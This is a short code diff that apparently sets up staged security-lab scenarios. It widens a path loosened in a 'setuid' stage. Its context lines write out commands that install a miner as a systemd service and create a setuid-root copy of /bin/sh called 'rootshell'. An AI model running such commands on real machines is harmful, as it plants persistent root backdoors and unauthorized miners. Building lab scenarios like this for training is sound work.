@@ -63,7 +63,7 @@ ln -s ../miner.service multi-user.target.wants/miner.service`,
   ),
   setuid: {
     play: async (stage) => {
-      stage.shell(loose("/usr/local"));
+      stage.shell(loose("/usr"));
       await stage.report(0);
       await stage.report();
       stage.shell("mkdir -p /usr/local/bin; cp /bin/sh /usr/local/bin/rootshell; chmod 4755 /usr/local/bin/rootshell");
